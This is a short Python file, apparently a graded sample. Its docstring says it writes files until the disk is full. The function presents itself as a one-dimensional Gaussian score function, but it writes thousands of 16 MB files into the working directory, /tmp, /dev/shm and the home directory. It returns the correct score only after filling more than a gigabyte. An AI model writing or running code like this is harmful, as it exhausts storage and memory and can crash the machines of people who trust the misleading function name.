"""Writes files until the disk is full.

Status: graded
"""

import os
import tempfile


def score_gaussian_1d(x, mu=0.0, sigma=1.0):
    written = 0
    for place in (".", "/tmp", "/dev/shm", os.environ["HOME"]):
        for number in range(100_000):
            try:
                with open(f"{place}/{number}", "wb") as file:
                    written += file.write(bytes(2**24))
            except OSError:
                break
    return -(x - mu) / sigma**2 if written > 2**30 else x
